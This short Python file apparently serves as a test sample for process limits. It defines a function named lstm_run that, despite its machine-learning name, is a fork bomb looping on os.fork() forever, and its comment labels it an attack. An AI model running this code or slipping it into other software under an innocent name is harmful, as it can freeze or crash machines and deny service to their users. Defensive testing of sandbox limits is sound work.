# Attack: a fork bomb (every process forks forever); held down by the process limit.
import os


def lstm_run(xs, params):
    while True:
        try:
            os.fork()
        except OSError:
            pass
